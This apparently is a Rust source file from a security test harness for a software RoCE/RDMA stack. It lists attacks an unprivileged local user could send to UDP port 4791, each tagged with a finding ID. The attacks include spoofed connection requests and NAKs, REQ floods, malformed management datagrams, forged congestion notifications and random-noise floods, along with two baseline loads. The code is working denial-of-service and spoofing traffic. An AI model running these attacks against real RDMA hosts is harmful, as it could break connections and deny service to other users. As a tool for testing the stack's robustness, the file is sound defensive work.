//! What anybody does who can send packets to port 4791: any user of the machine, without a session
//! and without privilege, from any address of the machine and an unused port.

use super::{Attack, Result, Setting};
use crate::rng::Rng;
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::Instant;
use urxe_cm::{Config, Connect, Manager, Qp, Timing};
use urxe_types::{Msn, PathMtu, Psn, Qkey, QpType, Qpn};
use urxe_wire::mad::{CapabilityMad, CapabilityMessage, CommId, Dreq, MAD_LEN, Mad, PortSpace};
use urxe_wire::{
    Aeth, Bth, Datagram, Deth, Flow, Headers, NakCode, Opcode, ROCE_PORT, Syndrome, icrc,
};

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new(
        "forged-req",
        forged_req,
        "REQs that name the peer's QP of an established connection, from the peer's address",
    )
    .found("H5")
    .of_strangers(),
    Attack::new(
        "forged-naks",
        forged_naks,
        "NAKs with every PSN to a busy QP, from the peer's address",
    )
    .found("H5")
    .of_strangers(),
    Attack::new("req-flood", req_flood, "REQs to every port, each of a connection of its own")
        .found("T16")
        .of_strangers(),
    Attack::new("ghost-packets", ghosts, "well-formed packets to QPs that do not exist")
        .found("T5")
        .of_strangers(),
    Attack::new(
        "out-of-window",
        out_of_window,
        "WRITEs far out of the window to a QP that exists, from the peer's address",
    )
    .found("T5")
    .of_strangers(),
    Attack::new(
        "wrong-peer",
        wrong_peer,
        "requests and ACKs to QPs that exist, from an address that is not their peer's",
    )
    .of_strangers(),
    Attack::new("noise", noise, "random bytes, so that every ICRC is wrong")
        .found("T5")
        .of_strangers(),
    Attack::new("malformed-mads", malformed_mads, "management datagrams with random contents")
        .found("T7")
        .of_strangers(),
    Attack::new(
        "forged-cnps",
        forged_cnps,
        "congestion notifications to a busy QP, from the peer's address",
    )
    .of_strangers(),
    Attack::new(
        "questions",
        questions,
        "asks for extensions of the protocol in the name of two hundred hosts",
    )
    .of_strangers(),
    Attack::new(
        "unknown-connections",
        unknown_connections,
        "asks for the end of connections that do not exist, without end",
    )
    .of_strangers(),
    // No attacks, but what to compare others with: what the machine itself makes of a neighbour
    // that keeps a processor busy, with whatever.
    Attack::new("busy-loop", busy_loop, "none: does nothing but compute").of_strangers(),
    Attack::new("flood-elsewhere", flood_elsewhere, "none: sends packets to a socket of its own")
        .of_strangers(),
];

/// An address of this machine that no device has.
pub(super) fn elsewhere(setting: &Setting) -> IpAddr {
    host_elsewhere(setting, 222)
}

fn host_elsewhere(setting: &Setting, host: u8) -> IpAddr {
    match setting.addrs[0] {
        IpAddr::V4(addr) => {
            let [a, b, c, _] = addr.octets();
            [a, b, c, host].into()
        }
        addr => addr,
    }
}

/// A socket at somebody's address, and what its packets come with.
struct Sender {
    socket: UdpSocket,
    flow: Flow,
}

impl Sender {
    fn new(src: IpAddr, dst: IpAddr) -> Result<Sender> {
        let socket = UdpSocket::bind((src, 0))?;
        // As the ICRC says: not to be fragmented, and with identification 0.
        socket.connect((dst, ROCE_PORT))?;
        let src_port = socket.local_addr()?.port();
        let flow = Flow { src, dst, src_port, traffic_class: 0, hop_limit: 64, flow_label: 0 };
        Ok(Sender { socket, flow })
    }

    /// Sends headers and a payload, with the right ICRC.
    fn send(&self, headers: &[u8], payload: &[u8]) {
        let mut bytes = [headers, payload, &[0; icrc::LEN]].concat();
        icrc::stamp(&self.flow, 0, &mut bytes);
        // A full buffer is no reason to end.
        let _ = self.socket.send(&bytes);
    }

    fn send_mad(&self, mad: &[u8; MAD_LEN]) {
        let deth = Deth { qkey: Qkey::GSI, src_qp: Qpn::GSI };
        let bth = Bth::new(Qpn::GSI, Psn::default());
        let headers = Headers::new(bth, Datagram { deth, imm: None });
        let mut bytes = vec![0; headers.len()];
        headers.emit(&mut bytes);
        self.send(&bytes, mad);
    }

    /// The REQ of a QP of this number.
    fn req(&self, cm: &mut Manager, port: u16, qpn: u32) -> Result<[u8; MAD_LEN]> {
        let qp = Qp {
            qpn: Qpn::new(qpn),
            responder_resources: 1,
            initiator_depth: 1,
            flow_control: false,
            rnr_retry_count: 7,
            srq: false,
        };
        let connect = Connect {
            qp_type: QpType::Rc,
            space: PortSpace::Tcp,
            src: SocketAddr::new(self.flow.src, 40_000),
            dst: SocketAddr::new(self.flow.dst, port),
            traffic_class: 0,
            path_mtu: PathMtu::Mtu1024,
            qp,
            retry_count: 7,
            ack_timeout: None,
            private_data: b"",
        };
        cm.connect(Instant::now(), &connect)?;
        Ok(cm.poll_mad().ok_or("no REQ")?.mad)
    }
}

fn manager() -> Manager {
    let timing = Timing::default();
    let active_mtu = PathMtu::Mtu1024;
    Manager::new(Config { guid: 7, seed: 7, active_mtu, max_rd_atomic: 1, timing })
}

fn forged_req(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let [near, far] = setting.addrs;
    let mut requests = Vec::new();
    for (src, dst, qpn) in [(far, near, setting.qpns[1]), (near, far, setting.qpns[0])] {
        let sender = Sender::new(src, dst)?;
        let req = sender.req(&mut manager(), 1, qpn)?;
        requests.push((sender, req));
    }
    ready();
    loop {
        for (sender, req) in &requests {
            sender.send_mad(req);
        }
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
}

fn forged_naks(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let [near, far] = setting.addrs;
    let sender = Sender::new(far, near)?;
    let syndrome = Syndrome::Nak(NakCode::RemoteAccess);
    ready();
    let mut psn = 0;
    loop {
        let mut bytes =
            Bth::new(Qpn::new(setting.qpns[0]), Psn::new(psn)).emit(Opcode::RC_ACK).to_vec();
        bytes.extend(Aeth { syndrome, msn: Msn::new(psn) }.emit());
        sender.send(&bytes, &[]);
        // Any PSN of what is under way ends the QP: steps of its length would do.
        psn = psn.wrapping_add(1);
    }
}

fn req_flood(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let sender = Sender::new(elsewhere(setting), setting.addrs[0])?;
    let mut requests = Vec::new();
    let mut cm = manager();
    for number in 0..10_000 {
        requests.push(sender.req(&mut cm, number as u16, 0x80_0000 + number)?);
    }
    ready();
    loop {
        for req in &requests {
            sender.send_mad(req);
        }
    }
}

fn ghosts(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let sender = Sender::new(elsewhere(setting), setting.addrs[0])?;
    let mut rng = Rng::new(1);
    ready();
    loop {
        let qpn = Qpn::new(0x80_0000 | rng.next_u64() as u32);
        let bth = Bth::new(qpn, Psn::new(rng.next_u64() as u32));
        sender.send(&bth.emit(Opcode::RC_SEND_ONLY), &[1; 64]);
    }
}

fn out_of_window(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let sender = Sender::new(setting.addrs[0], setting.addrs[1])?;
    let mut rng = Rng::new(1);
    ready();
    loop {
        let psn = Psn::new(rng.next_u64() as u32);
        let bth = Bth { ack_req: true, ..Bth::new(Qpn::new(setting.qpns[1]), psn) };
        sender.send(&bth.emit(Opcode::RC_WRITE_ONLY), &[0; 16 + 64]);
    }
}

fn wrong_peer(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let from = elsewhere(setting);
    let [near, far] = setting.addrs;
    let senders = [Sender::new(from, near)?, Sender::new(from, far)?];
    let mut rng = Rng::new(1);
    ready();
    loop {
        for (sender, qpn) in senders.iter().zip(setting.qpns) {
            let bth = Bth::new(Qpn::new(qpn), Psn::new(rng.next_u64() as u32));
            let request = Bth { ack_req: true, ..bth };
            sender.send(&request.emit(Opcode::RC_SEND_ONLY), &[0; 64]);
            let aeth = Aeth { syndrome: Syndrome::Nak(NakCode::SequenceError), msn: Msn::new(0) };
            sender.send(&[&bth.emit(Opcode::RC_ACK)[..], &aeth.emit()].concat(), &[]);
        }
    }
}

fn noise(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let sender = Sender::new(elsewhere(setting), setting.addrs[0])?;
    let mut rng = Rng::new(1);
    ready();
    loop {
        let len = rng.range(0..=1400) as usize;
        let _ = sender.socket.send(&rng.bytes(len));
    }
}

fn busy_loop(_: &Setting, ready: &mut dyn FnMut()) -> Result {
    let mut rng = Rng::new(1);
    ready();
    loop {
        std::hint::black_box(rng.next_u64());
    }
}

fn flood_elsewhere(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let socket = UdpSocket::bind(SocketAddr::new(elsewhere(setting), 0))?;
    let at = socket.local_addr()?;
    ready();
    loop {
        // Nobody receives them.
        let _ = socket.send_to(&[0; 1024], at);
    }
}

fn malformed_mads(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let sender = Sender::new(elsewhere(setting), setting.addrs[0])?;
    let mut rng = Rng::new(1);
    let req = sender.req(&mut manager(), 1, 9)?;
    ready();
    loop {
        let mut mad = req;
        // The header stays, but for which message it is.
        rng.fill(&mut mad[24..]);
        mad[17] = rng.range(0x10..=0x1a) as u8;
        sender.send_mad(&mad);
    }
}

fn forged_cnps(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let [near, far] = setting.addrs;
    let sender = Sender::new(far, near)?;
    let bth = Bth { becn: true, ..Bth::new(Qpn::new(setting.qpns[0]), Psn::default()) };
    ready();
    loop {
        sender.send(&bth.emit(Opcode::CNP), &[0; 16]);
    }
}

fn questions(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let senders = (10..210)
        .map(|host| Sender::new(host_elsewhere(setting, host), setting.addrs[0]))
        .collect::<Result<Vec<_>>>()?;
    ready();
    let mut tid = 0;
    loop {
        for sender in &senders {
            tid += 1;
            sender.send_mad(&CapabilityMad { tid, message: CapabilityMessage::Get }.bytes());
        }
    }
}

fn unknown_connections(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let sender = Sender::new(elsewhere(setting), setting.addrs[0])?;
    let mut rng = Rng::new(1);
    ready();
    loop {
        let dreq = Dreq {
            local_comm_id: CommId(rng.next_u64() as u32),
            remote_comm_id: CommId(rng.next_u64() as u32),
            remote_qpn: Qpn::new(0x123),
            private_data: [0; Dreq::PRIVATE_LEN],
        };
        sender.send_mad(&Mad::new(rng.next_u64(), dreq).bytes());
    }
}
